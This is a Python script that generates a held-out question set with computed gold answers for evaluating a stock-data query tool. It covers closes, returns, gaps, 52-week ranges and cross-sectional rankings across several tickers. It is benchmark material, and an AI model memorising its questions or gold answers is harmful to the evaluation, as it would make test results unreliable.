#!/usr/bin/env python3
"""blind-11: 240 questions for `stockctl ask`, with gold answers computed from the raw files.

Written blind: without reading the question engine. Standard library only.

Data: $ASK_EVAL_DATA if set, else <repo>/../shared/data, where <repo> is three levels above this file
(<repo>/test/ask-eval/heldout/make_gold.py). Output: questions.jsonl beside this file.
Every gold answer is computed here; nothing is typed by hand except the questions and their parameters.
Any failed ambiguity check stops the run before anything is written.
"""
import datetime as DT
import json
import math
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.normpath(os.path.join(HERE, '..', '..', '..'))
DATA = os.environ.get('ASK_EVAL_DATA') or os.path.normpath(os.path.join(REPO, '..', 'shared', 'data'))
OUT = os.path.join(HERE, 'questions.jsonl')

DAILY_SYMS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
ETF_SYMS = ['INDA', 'FXY', 'DBB']
ALL_SYMS = DAILY_SYMS + ETF_SYMS


class CheckFailed(Exception):
    pass


def check(cond, msg):
    if not cond:
        raise CheckFailed(msg)


# ---------------------------------------------------------------- loading

def nth_sunday(y, m, n):
    d = DT.date(y, m, 1)
    d += DT.timedelta(days=(6 - d.weekday()) % 7)
    return d + DT.timedelta(days=7 * (n - 1))


def utc_to_ny(stamp):
    """US Eastern time by the post-2007 rule: EDT from the 2nd Sunday of March 02:00 local (07:00 UTC)
    to the 1st Sunday of November 02:00 local (06:00 UTC)."""
    t = DT.datetime.strptime(stamp, '%Y-%m-%d %H:%M:%S')
    start = DT.datetime.combine(nth_sunday(t.year, 3, 2), DT.time(7, 0))
    end = DT.datetime.combine(nth_sunday(t.year, 11, 1), DT.time(6, 0))
    return t - DT.timedelta(hours=4 if start <= t < end else 5)


BARS = {}  # sym -> [(date, open, high, low, close, volume)] ascending
MINS = {}  # ETF sym -> [(date, 'HH:MM', open, high, low, close, volume)] ascending, New York time


def load():
    for s in DAILY_SYMS:
        rows = []
        with open(os.path.join(DATA, 'stocks', s.lower() + '.us.txt')) as f:
            header = f.readline().strip().split(',')
            check(header[:6] == ['Date', 'Open', 'High', 'Low', 'Close', 'Volume'], 'header of ' + s)
            for line in f:
                p = line.strip().split(',')
                if len(p) < 6:
                    continue
                rows.append((p[0], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
        check(all(a[0] < b[0] for a, b in zip(rows, rows[1:])), s + ' dates not strictly ascending')
        BARS[s] = rows
    names = sorted(os.listdir(os.path.join(DATA, 'intraday')))
    for s in ETF_SYMS:
        fn = [n for n in names if n.startswith(s + '_1min_') and n.endswith('.csv')]
        check(len(fn) == 1, 'one minute file for ' + s)
        mins = []
        with open(os.path.join(DATA, 'intraday', fn[0])) as f:
            f.readline()
            for line in f:
                p = line.strip().split(',')
                if len(p) < 6:
                    continue
                t = utc_to_ny(p[0])
                mins.append((t.strftime('%Y-%m-%d'), t.strftime('%H:%M'),
                             float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
        mins.sort(key=lambda r: (r[0], r[1]))
        check(all((a[0], a[1]) < (b[0], b[1]) for a, b in zip(mins, mins[1:])), s + ' duplicate minutes')
        MINS[s] = mins
        days = []
        for m in mins:
            if days and days[-1][0] == m[0]:
                d = days[-1]
                days[-1] = (d[0], d[1], max(d[2], m[3]), min(d[3], m[4]), m[5], d[5] + m[6])
            else:
                days.append((m[0], m[2], m[3], m[4], m[5], m[6]))
        BARS[s] = days


load()
IDX = {s: {b[0]: i for i, b in enumerate(BARS[s])} for s in ALL_SYMS}
FIELD = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}
END = max(BARS[s][-1][0] for s in ETF_SYMS)            # "today" for the ETFs
check(END == '2025-07-08', 'data end is ' + END)


def dd(s):
    return DT.date.fromisoformat(s)


# ---------------------------------------------------------------- periods

def month(y, m):
    last = (DT.date(y + (m == 12), m % 12 + 1, 1) - DT.timedelta(days=1))
    return '%04d-%02d-01' % (y, m), last.isoformat()


def quarter(y, q):
    return month(y, 3 * q - 2)[0], month(y, 3 * q)[1]


def half(y, h):
    return month(y, 6 * h - 5)[0], month(y, 6 * h)[1]


def year(y):
    return '%04d-01-01' % y, '%04d-12-31' % y


def week_of(d):
    x = dd(d)
    mon = x - DT.timedelta(days=x.weekday())
    return mon.isoformat(), (mon + DT.timedelta(days=4)).isoformat()


THIS_YEAR = ('2025-01-01', END)
THIS_MONTH = ('2025-07-01', END)
LAST_MONTH = month(2025, 6)
LAST_QUARTER = quarter(2025, 2)

# ---------------------------------------------------------------- basic measures


def bar(s, d):
    i = IDX[s].get(d)
    check(i is not None, '%s has no bar on %s' % (s, d))
    return BARS[s][i]


def value(s, d, field):
    b = bar(s, d)
    if field == 'range':
        return b[2] - b[3]
    return b[FIELD[field]]


def prev_bar(s, d):
    i = IDX[s][d]
    check(i > 0, '%s has no session before %s' % (s, d))
    p = BARS[s][i - 1]
    check((dd(d) - dd(p[0])).days <= 10, '%s: the session before %s is %s, across a hole in the data' % (s, d, p[0]))
    return p


def ret(s, d):
    return bar(s, d)[4] / prev_bar(s, d)[4] - 1


def gap(s, d):
    return bar(s, d)[1] / prev_bar(s, d)[4] - 1


def measure(s, d, m):
    if m == 'return':
        return ret(s, d)
    if m == 'gap':
        return gap(s, d)
    return value(s, d, m)


def on_or_before(s, d):
    best = None
    for b in BARS[s]:
        if b[0] <= d:
            best = b
        else:
            break
    check(best is not None, 'no session of %s on or before %s' % (s, d))
    return best


def window(s, d1, d2):
    w = [b for b in BARS[s] if d1 <= b[0] <= d2]
    check(len(w) > 0, 'empty window %s %s..%s' % (s, d1, d2))
    check(all((dd(b[0]) - dd(a[0])).days <= 10 for a, b in zip(w, w[1:])), 'hole inside window %s %s..%s' % (s, d1, d2))
    return w


def window_returns(s, d1, d2, include_first=True):
    w = window(s, d1, d2)
    out = [(b[0], ret(s, b[0])) for b in w]
    return out if include_first else out[1:]


def sma(s, d, n):
    i = IDX[s][d]
    check(i + 1 >= n, 'MA%d of %s undefined on %s' % (n, s, d))
    w = BARS[s][i - n + 1:i + 1]
    check(all((dd(b[0]) - dd(a[0])).days <= 10 for a, b in zip(w, w[1:])), 'MA window over a hole')
    return sum(b[4] for b in w) / n


def mean(xs):
    xs = list(xs)
    check(len(xs) > 0, 'mean of nothing')
    return sum(xs) / len(xs)


def sstd(xs):
    xs = list(xs)
    check(len(xs) > 2, 'too few values for a deviation')
    m = mean(xs)
    return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))


def pearson(xs, ys):
    mx, my = mean(xs), mean(ys)
    sxy = sum((a - mx) * (b - my) for a, b in zip(xs, ys))
    sxx = sum((a - mx) ** 2 for a in xs)
    syy = sum((b - my) ** 2 for b in ys)
    return sxy / math.sqrt(sxx * syy)


def change(s, d1, d2):
    a, b = on_or_before(s, d1), on_or_before(s, d2)
    check(a[0] < b[0], 'change over no time')
    return b[4] / a[4] - 1


def exact_change(s, d1, d2):
    """change between two named closes, which must both be sessions"""
    return value(s, d2, 'close') / value(s, d1, 'close') - 1


def agg(s, d1, d2, field, how):
    w = window(s, d1, d2)
    xs = [(b[2] - b[3]) if field == 'range' else b[FIELD[field]] for b in w]
    if how == 'mean':
        return mean(xs)
    if how == 'sum':
        return sum(xs)
    if how == 'max':
        return max(xs)
    if how == 'min':
        return min(xs)
    raise ValueError(how)


# ---------------------------------------------------------------- ambiguity helpers

def distinct(a, b, rel=2e-3, ab=1e-9):
    return abs(a - b) > max(rel * max(abs(a), abs(b)), ab)


def ranked(items, largest=True, n=None, by_abs=False):
    """items: [(label, value)]. Sort; check that the top n (+ the next one) are separated beyond rounding."""
    key = (lambda t: abs(t[1])) if by_abs else (lambda t: t[1])
    srt = sorted(items, key=key, reverse=largest)
    n = len(srt) if n is None else n
    check(len(srt) >= n, 'fewer items than asked')
    for a, b in zip(srt[:n + 1], srt[1:n + 1]):
        check(distinct(key(a), key(b)), 'tie in ranking: %r %r' % (a, b))
    return srt[:n]


def far_from(x, thr, rel=1e-3):
    return abs(x - thr) > rel * max(abs(thr), 1e-6)


def vwap_of(ms):
    check(len(ms) > 0, 'no minutes')
    v = sum(m[6] for m in ms)
    check(v > 0, 'no volume')
    return sum(m[5] * m[6] for m in ms) / v


def minutes(s, d, t1='00:00', t2='23:59'):
    return [m for m in MINS[s] if m[0] == d and t1 <= m[1] <= t2]


def regular_agrees(s, d, field):
    """ETF day values asked on a chosen day: the all-minutes daily bar (FORMAT's definition) must agree within 0.1%
    with the same value taken over the regular session only, so that both readings give one answer"""
    if s not in ETF_SYMS:
        return
    reg = minutes(s, d, '09:30', '15:59')
    check(len(reg) > 0, 'no regular-session minutes %s %s' % (s, d))
    r = {'open': reg[0][2], 'high': max(m[3] for m in reg), 'low': min(m[4] for m in reg), 'close': reg[-1][5]}
    if field == 'range':
        a, b = value(s, d, 'high') - value(s, d, 'low'), r['high'] - r['low']
    elif field in r:
        a, b = value(s, d, field), r[field]
    else:
        return
    check(abs(a / b - 1) < 0.001, 'extended hours change %s %s %s: %r vs %r' % (s, d, field, a, b))


def streaks(series, up):
    """series: [(date, return)] -> [(length, first, last)] of consecutive up (>0) or down (<0) sessions"""
    out, cur = [], []
    for d, r in series:
        if (r > 0) if up else (r < 0):
            cur.append(d)
        else:
            if cur:
                out.append((len(cur), cur[0], cur[-1]))
            cur = []
    if cur:
        out.append((len(cur), cur[0], cur[-1]))
    return out


def longest_streak(s, d1, d2, up):
    a = streaks(window_returns(s, d1, d2, True), up)
    b = streaks(window_returns(s, d1, d2, False), up)
    check(a and b, 'no streak')
    la = sorted(a, key=lambda t: -t[0])
    lb = sorted(b, key=lambda t: -t[0])
    check(len(la) == 1 or la[0][0] > la[1][0], 'longest streak tied: %r' % la[:3])
    check(la[0] == lb[0], 'streak depends on the first session of the window')
    n, a1, a2 = la[0]
    i1, i2 = IDX[s][a1], IDX[s][a2]
    for j in (i1 - 1, i2 + 1):
        if 0 < j < len(BARS[s]):
            r = BARS[s][j][4] / BARS[s][j - 1][4] - 1
            check(not ((r > 0) if up else (r < 0)), 'streak runs on past the window edge')
    return la[0]


def ma_diff(s, i, fast, slow):
    d = BARS[s][i][0]
    if slow is None:
        return BARS[s][i][4] - sma(s, d, fast)
    return sma(s, d, fast) - sma(s, d, slow)


def crossings(s, fast, slow, direction):
    """all crossing days: direction 'above' = diff goes from < 0 to > 0 (fast over slow, or close over MA)"""
    need = max(fast, slow or 0)
    out = []
    B = BARS[s]
    for i in range(need, len(B)):
        try:
            p, c = ma_diff(s, i - 1, fast, slow), ma_diff(s, i, fast, slow)
        except CheckFailed:
            continue
        if (direction == 'above' and p < 0 < c) or (direction == 'below' and p > 0 > c):
            scale = B[i][4]
            check(abs(p) > 1e-6 * scale and abs(c) > 1e-6 * scale, 'near tie at crossing %s %s' % (s, B[i][0]))
            out.append(B[i][0])
        if p == 0 or c == 0:
            check(False, 'exact tie between series %s %s' % (s, B[i][0]))
    return out


def not_a_crossing_day(s, d, fast, slow):
    if d in IDX[s]:
        for direction in ('above', 'below'):
            check(d not in crossings(s, fast, slow, direction), 'the anchor date is itself a crossing')


def universe_on(d):
    return [s for s in ALL_SYMS if d in IDX[s]]


def universe_over(d1, d2):
    return [s for s in ALL_SYMS if d1 in IDX[s] and d2 in IDX[s]]


def high_52w(s, d, field='high', how='max'):
    x = dd(d)
    vals = []
    for back in (364, 365):
        start = (x - DT.timedelta(days=back)).isoformat()
        w = [b for b in BARS[s] if start <= b[0] <= d]
        check(len(w) > 200, '52-week window too thin')
        xs = [b[FIELD[field]] for b in w]
        vals.append(max(xs) if how == 'max' else min(xs))
    check(vals[0] == vals[1], '52-week value depends on a 364/365-day window')
    bar(s, d)
    return vals[0]


# ---------------------------------------------------------------- gold shapes

def rnd(x):
    if isinstance(x, str):
        return x
    check(isinstance(x, (int, float)) and math.isfinite(x), 'bad number %r' % (x,))
    r = round(float(x), 8)
    if r == int(r):
        return int(r)
    return r


def gold(rows, match, exact):
    return {'rows': [[rnd(c) for c in row] for row in rows], 'match': match, 'exact_rows': exact}


def first(*row):
    return gold([list(row)], 'first', False)


def as_set(rows):
    return gold(rows, 'set', True)


def as_ordered(rows, exact=True):
    return gold(rows, 'ordered', exact)


# ---------------------------------------------------------------- gold builders per kind

def g_latest(s, n, fields):
    rows = BARS[s][-n:]
    check(len(rows) == n, 'not enough rows')
    return as_set([[b[0]] + [b[FIELD[f]] for f in fields] for b in rows])


def g_day(s, d, field):
    regular_agrees(s, d, field)
    return first(d, measure(s, d, field))


def g_rows(s, d1, d2, fields):
    w = window(s, d1, d2)
    check(len(w) >= 2, 'range too short')
    for b in w:
        for f in fields:
            regular_agrees(s, b[0], f)
    return as_set([[b[0]] + [b[FIELD[f]] for f in fields] for b in w])


def g_agg(s, d1, d2, field, how):
    return first(agg(s, d1, d2, field, how))


def g_extreme(s, d1, d2, field, largest):
    items = [(b[0], (b[2] - b[3]) if field == 'range' else b[FIELD[field]]) for b in window(s, d1, d2)]
    top = ranked(items, largest, 1)[0]
    return first(top[0], top[1])


def g_52(s, d, which):
    hi = high_52w(s, d, 'high', 'max')
    lo = high_52w(s, d, 'low', 'min')
    if which == 'high':
        return first(hi)
    if which == 'low':
        return first(lo)
    return first(lo, hi)


def g_change(s, d1, d2, sessions=True):
    if sessions:
        return first(exact_change(s, d1, d2))
    check(d1 not in IDX[s] and d2 not in IDX[s], 'expected non-trading end dates')
    return first(change(s, d1, d2))


def g_ret(s, d, m):
    return first(d, measure(s, d, m))


def g_biggest(s, d1, d2, m, mode):
    """mode: 'up' (largest), 'down' (most negative), 'abs' (largest either way)"""
    res = []
    for inc in (True, False):
        w = window(s, d1, d2)
        if not inc:
            w = w[1:]
        items = [(b[0], measure(s, b[0], m)) for b in w]
        if mode == 'abs':
            res.append(ranked(items, True, 1, by_abs=True)[0])
        else:
            res.append(ranked(items, mode == 'up', 1)[0])
    check(res[0] == res[1], 'winner depends on the first session')
    if mode == 'up':
        check(res[0][1] > 0, 'biggest gain is not a gain')
    if mode == 'down':
        check(res[0][1] < 0, 'biggest drop is not a drop')
    return first(res[0][0], res[0][1])


def g_xs(d, m, n, largest, singular=False, expect=None):
    syms = universe_on(d)
    if expect is not None:
        check(len(syms) == expect, 'universe on %s has %d symbols' % (d, len(syms)))
    items = [(s, measure(s, d, m)) for s in syms]
    top = ranked(items, largest, n)
    if singular:
        return first(*top[0])
    return as_ordered([list(t) for t in top])


def g_gainers(d1, d2, n, largest, singular=False, expect=None):
    syms = universe_over(d1, d2)
    if expect is not None:
        check(len(syms) == expect, 'universe over %s..%s has %d symbols' % (d1, d2, len(syms)))
    items = [(s, exact_change(s, d1, d2)) for s in syms]
    top = ranked(items, largest, n)
    if singular:
        return first(*top[0])
    return as_ordered([list(t) for t in top])


def g_pair(items, winner_first=True, largest=True):
    """items [(sym, value)]: 'which / did X or Y' -> ordered winner first; 'compare' -> set"""
    if winner_first:
        return as_ordered([list(t) for t in ranked(items, largest, 2)])
    return as_set([list(t) for t in items])


def period_value(s, d1, d2, field, how):
    if how == 'last':
        return window(s, d1, d2)[-1][FIELD[field]]
    return agg(s, d1, d2, field, how)


def g_grouped(s, periods, field, how):
    return as_ordered([[period_value(s, a, b, field, how)] for a, b in periods])


def g_pop(s, later, earlier, field):
    a = agg(s, later[0], later[1], field, 'mean')
    b = agg(s, earlier[0], earlier[1], field, 'mean')
    return first(a, b, a / b - 1)


def g_ma(s, d, n):
    return first(d, sma(s, d, n))


def g_cross(s, fast, slow, direction, after=None, before=None, pick='first', only=False):
    xs = crossings(s, fast, slow, direction)
    if after:
        not_a_crossing_day(s, after, fast, slow)
        xs = [x for x in xs if x > after]
    if before:
        not_a_crossing_day(s, before, fast, slow)
        xs = [x for x in xs if x < before]
    check(len(xs) > 0, 'no crossing found')
    if only:
        check(len(xs) == 1, 'more than one crossing: %r' % xs)
    return first(xs[0] if pick == 'first' else xs[-1])


def g_count(s, d1, d2, m, op, thr):
    """op: '>' or '<' or 'abs>'; return-based measures are checked with and without the window's first session"""
    counts = []
    for inc in (True, False):
        w = window(s, d1, d2)
        if not inc:
            if m not in ('return', 'gap'):
                continue
            w = w[1:]
        n = 0
        for b in w:
            x = measure(s, b[0], m)
            y = abs(x) if op == 'abs>' else x
            check(far_from(y, thr), 'value %r on %s too close to the threshold' % (x, b[0]))
            n += (y > thr) if op in ('>', 'abs>') else (y < thr)
        counts.append(n)
    if len(counts) == 2:
        check(counts[0] == counts[1], 'count depends on the first session')
    return first(counts[0])


def g_xcount(d, m, op, thr, expect=None):
    syms = universe_on(d)
    if expect is not None:
        check(len(syms) == expect, 'universe on %s has %d symbols' % (d, len(syms)))
    n = 0
    for s in syms:
        x = measure(s, d, m)
        check(far_from(x, thr), '%s %r too close to the threshold' % (s, x))
        n += (x > thr) if op == '>' else (x < thr)
    return first(n)


def g_xcount_over(d1, d2, expect=None):
    syms = universe_over(d1, d2)
    if expect is not None:
        check(len(syms) == expect, 'universe over %s..%s has %d symbols' % (d1, d2, len(syms)))
    n = 0
    for s in syms:
        x = exact_change(s, d1, d2)
        check(abs(x) > 0.001, '%s change %r too close to zero' % (s, x))
        n += x > 0
    return first(n)


def g_vol(s, d1, d2):
    a = sstd([r for _, r in window_returns(s, d1, d2, True)])
    b = sstd([r for _, r in window_returns(s, d1, d2, False)])
    check(abs(a - b) < 0.00005, 'volatility depends on the first session: %r %r' % (a, b))
    return a


def corr(s1, s2, d1, d2, include_first=True):
    r1 = dict(window_returns(s1, d1, d2, include_first))
    r2 = dict(window_returns(s2, d1, d2, include_first))
    common = sorted(set(r1) & set(r2))
    check(len(common) > 20, 'too few common dates')
    return pearson([r1[d] for d in common], [r2[d] for d in common])


def g_corr(s1, s2, d1, d2):
    a, b = corr(s1, s2, d1, d2, True), corr(s1, s2, d1, d2, False)
    check(abs(a - b) < 0.5 * max(0.001 * abs(a), 0.0001), 'correlation depends on the first session: %r %r' % (a, b))
    return first(a)


def g_streak(s, d1, d2, up):
    n, a, b = longest_streak(s, d1, d2, up)
    check(n >= 2, 'streak of one')
    return first(n, a, b)


def g_vwap_day(s, d):
    allm = minutes(s, d)
    reg = minutes(s, d, '09:30', '15:59')
    a, b = vwap_of(allm), vwap_of(reg)
    check(abs(a / b - 1) < 0.001, 'regular-session VWAP disagrees on %s %s' % (s, d))
    return first(a)


def g_vwap_window(s, days, t1='00:00', t2='23:59'):
    ms = []
    for d in days:
        bar(s, d)
        ms += minutes(s, d, t1, t2)
    return first(vwap_of(ms))


def g_minute_rows(s, d, t1, t2, fields):
    ms = minutes(s, d, t1, t2)
    check(2 <= len(ms) <= 15, 'minute list of %d rows' % len(ms))
    col = {'open': 2, 'high': 3, 'low': 4, 'close': 5, 'volume': 6}
    return as_set([[m[0] + ' ' + m[1]] + [m[col[f]] for f in fields] for m in ms])


def g_candle(s, d1, d2):
    w = window(s, d1, d2)
    return first(w[0][1], max(b[2] for b in w), min(b[3] for b in w), w[-1][4], sum(b[5] for b in w))


def g_dist(s, d):
    i = IDX[s][d]
    peak = max(b[4] for b in BARS[s][:i + 1])
    v = BARS[s][i][4] / peak - 1
    check(v < -0.001, 'at or near the high')
    return first(d, v)


def g_dates_of(s):
    return first(BARS[s][0][0], BARS[s][-1][0])


def g_syms(pred):
    syms = [s for s in ALL_SYMS if pred(s)]
    check(len(syms) >= 1, 'empty symbol list')
    return as_set([[s] for s in syms])


# ---------------------------------------------------------------- the questions (written by hand)

QUESTIONS = []


def A(kind, text, fn):
    QUESTIONS.append((kind, text, fn))


def R(kind, text):
    QUESTIONS.append((kind, text, None))


def period_rets(s, d1, d2):
    return [r for _, r in window_returns(s, d1, d2)]


# latest rows -------------------------------------------------------------------------------------
A('latest-rows', "fxy last 5 closes", lambda: g_latest('FXY', 5, ['close']))
A('latest-rows', "Can you pull DBB's three most recent daily bars? I need open, high, low, close and volume for each.",
  lambda: g_latest('DBB', 3, ['open', 'high', 'low', 'close', 'volume']))
A('latest-rows', "What's the most recent close we have on file for INDA, and what day was it?",
  lambda: g_latest('INDA', 1, ['close']))
A('latest-rows', "Give me the final four sessions of AMD in the database along with their volume.",
  lambda: g_latest('AMD', 4, ['volume']))
A('latest-rows', "INDA volume for each of its last 7 trading sessions pls",
  lambda: g_latest('INDA', 7, ['volume']))
A('latest-rows', "I'm looking at the tail end of the Coca-Cola history. What are the last ten closing prices in the data?",
  lambda: g_latest('KO', 10, ['close']))
A('latest-rows', "Microsoft: daily high and low for the last 6 sessions on record",
  lambda: g_latest('MSFT', 6, ['high', 'low']))
A('latest-rows', "Show me the latest 2 sessions for the Japanese yen ETF (FXY), closes only.",
  lambda: g_latest('FXY', 2, ['close']))

# day value ---------------------------------------------------------------------------------------
A('day-value', "What did IBM close at on March 3rd, 2015?", lambda: g_day('IBM', '2015-03-03', 'close'))
A('day-value', "KO volume 8/7/2017", lambda: g_day('KO', '2017-08-07', 'volume'))
A('day-value', "tesla's high on 24/06/2016?", lambda: g_day('TSLA', '2016-06-24', 'high'))
A('day-value', "Where did FXY open on Nov 8 2024?", lambda: g_day('FXY', '2024-11-08', 'open'))
A('day-value', "DBB low, January 17 2025", lambda: g_day('DBB', '2025-01-17', 'low'))
A('day-value', "JPMorgan's opening price on 17 February 2009, please.", lambda: g_day('JPM', '2009-02-17', 'open'))
A('day-value', "How wide was Nvidia's trading range (high minus low) on 2016-11-11?",
  lambda: g_day('NVDA', '2016-11-11', 'range'))
A('day-value', "what was the INDA closing price on the 5th of March 2025", lambda: g_day('INDA', '2025-03-05', 'close'))

# date-range rows ---------------------------------------------------------------------------------
A('date-range-rows', "AAPL closes 2014-06-02 through 2014-06-06", lambda: g_rows('AAPL', '2014-06-02', '2014-06-06', ['close']))
A('date-range-rows', "List Microsoft's daily volume for the week of September 16, 2013.",
  lambda: g_rows('MSFT', *week_of('2013-09-16'), ['volume']))
A('date-range-rows', "DBB closing prices from Dec 23 to Dec 31, 2024, inclusive",
  lambda: g_rows('DBB', '2024-12-23', '2024-12-31', ['close']))
A('date-range-rows', "What has DBB's daily volume been so far this month?", lambda: g_rows('DBB', *THIS_MONTH, ['volume']))
A('date-range-rows', "Need GOOGL open/high/low/close for Aug 1-4 2017 (inclusive), one row per day",
  lambda: g_rows('GOOGL', '2017-08-01', '2017-08-04', ['open', 'high', 'low', 'close']))
A('date-range-rows', "For INDA, give the close of every session from Feb 26 through March 3, 2025.",
  lambda: g_rows('INDA', '2025-02-26', '2025-03-03', ['close']))
A('date-range-rows', "amzn closing prices 12/27/2016 thru 12/30/2016",
  lambda: g_rows('AMZN', '2016-12-27', '2016-12-30', ['close']))
A('date-range-rows', "What were Intel's opening prices on each trading day from March 6 to March 10, 2000, both days included?",
  lambda: g_rows('INTC', '2000-03-06', '2000-03-10', ['open']))

# window aggregate --------------------------------------------------------------------------------
A('window-aggregate', "Average KO close in Q3 2012?", lambda: g_agg('KO', *quarter(2012, 3), 'close', 'mean'))
A('window-aggregate', "total FXY volume traded in march 2024", lambda: g_agg('FXY', *month(2024, 3), 'volume', 'sum'))
A('window-aggregate', "What's the highest price Amazon reached during the first half of 2014?",
  lambda: g_agg('AMZN', *half(2014, 1), 'high', 'max'))
A('window-aggregate', "Intels lowest low in 2008", lambda: g_agg('INTC', *year(2008), 'low', 'min'))
A('window-aggregate', "Could you work out the mean daily volume for AMD over January 2016?",
  lambda: g_agg('AMD', *month(2016, 1), 'volume', 'mean'))
A('window-aggregate', "INDA's average closing price in April 2025", lambda: g_agg('INDA', *month(2025, 4), 'close', 'mean'))
A('window-aggregate', "Sum up Nvidia's traded shares for Oct 2–6, 2017.", lambda: g_agg('NVDA', '2017-10-02', '2017-10-06', 'volume', 'sum'))
A('window-aggregate', "For FXY last month, what was the average daily range (high - low)?",
  lambda: g_agg('FXY', *LAST_MONTH, 'range', 'mean'))
A('window-aggregate', "IBM average close, calendar year 2005", lambda: g_agg('IBM', *year(2005), 'close', 'mean'))

# extreme day -------------------------------------------------------------------------------------
A('extreme-day', "On which day in 2015 did Netflix trade the most shares?", lambda: g_extreme('NFLX', *year(2015), 'volume', True))
A('extreme-day', "When did DBB post its lowest close of 2024, and what was it?", lambda: g_extreme('DBB', *year(2024), 'close', False))
A('extreme-day', "Which session in Q1 2012 gave AAPL its highest intraday high?", lambda: g_extreme('AAPL', *quarter(2012, 1), 'high', True))
A('extreme-day', "TSLA - day with the widest high-low range in September 2017?", lambda: g_extreme('TSLA', *month(2017, 9), 'range', True))
A('extreme-day', "busiest INDA day by volume in march 2025", lambda: g_extreme('INDA', *month(2025, 3), 'volume', True))
A('extreme-day', "JPM's lowest close during 2009 - which date was that?", lambda: g_extreme('JPM', *year(2009), 'close', False))
A('extreme-day', "When in 2015 did IBM hit its peak intraday high, and how high did it go?", lambda: g_extreme('IBM', *year(2015), 'high', True))
A('extreme-day', "What's FXY's highest close this year, and on which day did it happen?", lambda: g_extreme('FXY', *THIS_YEAR, 'close', True))

# 52-week -----------------------------------------------------------------------------------------
A('52-week', "52-week high for MSFT as of 2017-06-30", lambda: g_52('MSFT', '2017-06-30', 'high'))
A('52-week', "fxy 52wk low as of today?", lambda: g_52('FXY', END, 'low'))
A('52-week', "What was DBB's 52-week range (low and high) on October 15th, 2024?", lambda: g_52('DBB', '2024-10-15', 'range'))
A('52-week', "GOOGL 52 week high on Jan 5 2016", lambda: g_52('GOOGL', '2016-01-05', 'high'))
A('52-week', "Where was AMD's 52-week low sitting on February 8, 2016?", lambda: g_52('AMD', '2016-02-08', 'low'))
A('52-week', "Coca-Cola 52-week range as of 30/12/2011", lambda: g_52('KO', '2011-12-30', 'range'))
A('52-week', "As of 2014-09-16, what was Netflix's 52-week high?", lambda: g_52('NFLX', '2014-09-16', 'high'))
A('52-week', "I need Apple's 52 week low on 4/19/2013.", lambda: g_52('AAPL', '2013-04-19', 'low'))

# change between ----------------------------------------------------------------------------------
A('change-between', "How much did AMZN change from the 2015-01-02 close to the 2015-12-31 close?",
  lambda: g_change('AMZN', '2015-01-02', '2015-12-31'))
A('change-between', "% change in DBB between the 2024-03-01 close and the 2024-09-03 close",
  lambda: g_change('DBB', '2024-03-01', '2024-09-03'))
A('change-between', "IBM performance from the close on July 1, 2013 to the close on January 2, 2014?",
  lambda: g_change('IBM', '2013-07-01', '2014-01-02'))
A('change-between', "What was Intel's price change between Jan 1 2011 and Dec 31 2011?",
  lambda: g_change('INTC', '2011-01-01', '2011-12-31', sessions=False))
A('change-between', "how much is DBB up or down year to date, measured from the 2024 year-end close to the latest close",
  lambda: g_change('DBB', '2024-12-31', END))
A('change-between', "FXY's move since the April 1, 2025 close — up to the most recent close", lambda: g_change('FXY', '2025-04-01', END))
A('change-between', "nvda percent change, close of 3/1/2016 to close of 2/28/2017", lambda: g_change('NVDA', '2016-03-01', '2017-02-28'))
A('change-between', "By how much did Facebook move between its 2013-06-03 close and its 2014-06-02 close?",
  lambda: g_change('FB', '2013-06-03', '2014-06-02'))

# daily return or gap -----------------------------------------------------------------------------
A('daily-return-or-gap', "AAPL daily return on 2014-04-24", lambda: g_ret('AAPL', '2014-04-24', 'return'))
A('daily-return-or-gap', "What was FB's opening gap on July 25, 2013?", lambda: g_ret('FB', '2013-07-25', 'gap'))
A('daily-return-or-gap', "DBB return on 8/15/2024?", lambda: g_ret('DBB', '2024-08-15', 'return'))
A('daily-return-or-gap', "How big was the FXY gap at the open on 2024-07-12?", lambda: g_ret('FXY', '2024-07-12', 'gap'))
A('daily-return-or-gap', "INDA's daily return, June 3rd 2025", lambda: g_ret('INDA', '2025-06-03', 'return'))
A('daily-return-or-gap', "By how much did Microsoft gap on Oct 21st, 2016?", lambda: g_ret('MSFT', '2016-10-21', 'gap'))
A('daily-return-or-gap', "ko daily % change 2/18/2014", lambda: g_ret('KO', '2014-02-18', 'return'))
A('daily-return-or-gap', "How did JPM do on 9 November 2016, close to close?", lambda: g_ret('JPM', '2016-11-09', 'return'))
A('daily-return-or-gap', "Tesla opening gap 2017-08-03 vs the prior close", lambda: g_ret('TSLA', '2017-08-03', 'gap'))

# biggest move day --------------------------------------------------------------------------------
A('biggest-move-day', "NFLX biggest one-day drop in 2016?", lambda: g_biggest('NFLX', *year(2016), 'return', 'down'))
A('biggest-move-day', "What was AMD's largest single-day percentage gain in 2017, and when?", lambda: g_biggest('AMD', *year(2017), 'return', 'up'))
A('biggest-move-day', "Biggest daily move in either direction for DBB during 2024", lambda: g_biggest('DBB', *year(2024), 'return', 'abs'))
A('biggest-move-day', "worst day for FXY in Q3 2024 (close to close)", lambda: g_biggest('FXY', *quarter(2024, 3), 'return', 'down'))
A('biggest-move-day', "Which day in 2015 had GOOGL's biggest gap up?", lambda: g_biggest('GOOGL', *year(2015), 'gap', 'up'))
A('biggest-move-day', "INDA's steepest one-day decline in April 2025?", lambda: g_biggest('INDA', *month(2025, 4), 'return', 'down'))
A('biggest-move-day', "IBM: largest one-day % loss of 2008", lambda: g_biggest('IBM', *year(2008), 'return', 'down'))
A('biggest-move-day', "tsla best day of 2013 by daily return", lambda: g_biggest('TSLA', *year(2013), 'return', 'up'))

# cross-sectional ranking -------------------------------------------------------------------------
A('cross-sectional-ranking', "Which 3 stocks had the best daily return on 2015-08-26?", lambda: g_xs('2015-08-26', 'return', 3, True, expect=13))
A('cross-sectional-ranking', "top 3 tickers by volume on 9/19/2014", lambda: g_xs('2014-09-19', 'volume', 3, True, expect=13))
A('cross-sectional-ranking', "Which stock had the highest closing price on March 1st, 2017?", lambda: g_xs('2017-03-01', 'close', 1, True, singular=True, expect=13))
A('cross-sectional-ranking', "Bottom four names by daily return on October 19, 2012, worst first.", lambda: g_xs('2012-10-19', 'return', 4, False, expect=13))
